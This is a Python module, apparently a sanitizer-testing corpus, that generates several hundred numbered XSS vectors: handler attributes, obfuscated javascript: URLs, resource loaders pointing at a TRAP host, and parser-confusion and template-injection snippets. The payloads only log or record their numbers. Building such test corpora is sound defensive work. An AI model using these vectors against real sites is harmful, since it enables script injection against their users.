# ruff: noqa: E501  (a table of texts)
"""Over 500 ways to make a page run or load what somebody wrote, generated from a few dozen parts.

Each says its own number and a half on the console if it runs, and asks TRAP for its number if it loads.
"""

import html
import itertools
import urllib.parse

RUN = "window.__hit=(window.__hit||[]).concat({n}),console.log({n}.5)"
LOAD = "TRAP/{n}"
HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus autofocus", "onanimationstart", "ontransitionend",
    "onpointerenter", "onbeforetoggle", "ontoggle open", "onbegin", "onscroll", "onwheel", "oncut", "onpageshow",
    "onfocusin tabindex=0", "OnErRoR", "on error",
)  # fmt: skip
ELEMENTS = (
    "img src=x", "svg", "body", "input", "details", "video src=x", "audio src=x", "iframe", "object data=x", "marquee",
    "a href=x", "div", "math", "style", "link rel=stylesheet href=x", "x", "select", "textarea", "button", "table",
)  # fmt: skip
ENCODINGS = (
    lambda text: text,
    lambda text: text.replace("<", "\0<"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t\n"),
    lambda text: html.escape(html.unescape(text)),
    lambda text: urllib.parse.quote(text),
    lambda text: text.replace("<", "&lt;").replace("&lt;", "<", 1),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
)
SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", " javascript:{run}",
    "\x01javascript:{run}", "javascript&colon;{run}", "&#106;avascript:{run}", "&#x6A&#x61vascript:{run}",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD50b3AuX19oaXQ9WzFdPC9zY3JpcHQ+",
    "vbscript:{run}", "feed:javascript:{run}", "view-source:javascript:{run}", "javascript://%0a{run}",
)  # fmt: skip
CARRIERS = (
    '<a href="{0}">press</a>', '<iframe src="{0}"></iframe>', '<form action="{0}"><button>go</button></form>',
    '<object data="{0}"></object>', '<embed src="{0}">', '<svg><a xlink:href="{0}"><text>x</text></a></svg>',
    '<button formaction="{0}">go</button>', '<base href="{0}">', '<img src="{0}">', '<link rel=import href="{0}">',
    '<meta http-equiv=refresh content="0;url={0}">', '<area href="{0}">', '<math href="{0}">x</math>',
)  # fmt: skip
LOADERS = (
    "<img src={load}>", '<img srcset="{load} 2x">', "<link rel=stylesheet href={load}>", "<link rel=prefetch href={load}>",
    "<style>@import '{load}';</style>", "<style>body{{background:url({load})}}</style>", "<p style='background:url({load})'>x</p>",
    "<video poster={load}></video>", "<audio src={load}></audio>", "<object data={load}></object>", "<embed src={load}>",
    "<iframe src={load}></iframe>", "<frameset><frame src={load}></frameset>", "<input type=image src={load}>",
    "<table background={load}><tr><td>x</td></tr></table>", "<svg><image href={load} /></svg>", "<svg><use href={load}#a /></svg>",
    "<source src={load}>", "<track src={load}>", "<script src={load}></script>", "<link rel=dns-prefetch href={load}>",
    "<meta http-equiv=refresh content='0;url={load}'>", "<bgsound src={load}>", "<picture><source srcset={load}><img></picture>",
    "<p style=\"list-style:url('{load}');content:url({load});cursor:url({load}),auto\">x</p>", "<link rel=preload as=image href={load}>",
    "<style>@font-face{{font-family:x;src:url({load})}}p{{font-family:x}}</style><p>x</p>", "<link rel=manifest href={load}>",
)  # fmt: skip
WHOLE = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script/x>{run}</script>", "<<script>{run}//<</script>",
    "<svg><script>{run}</script></svg>", "<svg><script href='data:,{run}'/></svg>", "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">", "<template><script>{run}</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>", "<title><img src=x onerror={run}></title>", "<textarea></textarea><img src=x onerror={run}>",
    "\"><img src=x onerror={run}>", "'><img src=x onerror={run}>", "</script><img src=x onerror={run}>", "</style><img src=x onerror={run}>",
    "</title><img src=x onerror={run}>", "</textarea><img src=x onerror={run}>", "\" onmouseover=\"{run}\" x=\"", "' autofocus onfocus='{run}' x='",
    "`-{run}-`", "${{{run}}}", "{{{{constructor.constructor('{run}')()}}}}", "{{% debug %}}<img src=x onerror={run}>",
    "<iframe srcdoc=\"<script>top.__hit=[{n}];parent.__hit=[{n}]</script>\"></iframe>", "<svg><animate onbegin={run} attributeName=x></svg>",
    "<svg><set attributeName=href to='javascript:{run}'></svg>", "<xml><x xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script></x></xml>",
    "<?xml-stylesheet href='javascript:{run}'?>", "<div hx-get='/' hx-trigger=load hx-on::load='{run}'></div>", "<div hx-on:click='{run}'>x</div>",
    "<div data-hx-on-click='{run}'>x</div>", "<p style='behavior:url(x);width:expression({run})'>x</p>", "<isindex type=image src=1 onerror={run}>",
    "<dialog open onclose={run}><form method=dialog><button>x</button></form></dialog>", "<command-palette src='data:,{run}'></command-palette>",
    "<p id=words data-selected=x></p>", "<input name=attributes><img src=x onerror={run}>", "<object type=image/svg+xml data='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.__hit=[{n}]\"/>'></object>",
)  # fmt: skip


def all_vectors(trap: str) -> list[str]:
    """In a fixed order; the number in each is its place."""
    found: list[str] = []

    def add(text: str) -> None:
        number = len(found)
        run = RUN.format(n=number)
        found.append(text.replace("{run}", run).replace("{load}", f"{trap}/{number}").replace("{n}", str(number)))

    for element, handler in itertools.product(ELEMENTS, HANDLERS):
        name, _space, more = handler.partition(" ")
        add(f"<{element} {name}={{run}} {more}>")
    for carrier, scheme in itertools.product(CARRIERS, SCHEMES):
        add(carrier.replace("{0}", scheme))
    for one in LOADERS + WHOLE:
        add(one.replace("{{", "{").replace("}}", "}"))
    for one, encoding in itertools.product(WHOLE[:8], ENCODINGS[1:]):
        add(encoding(one))
    return found
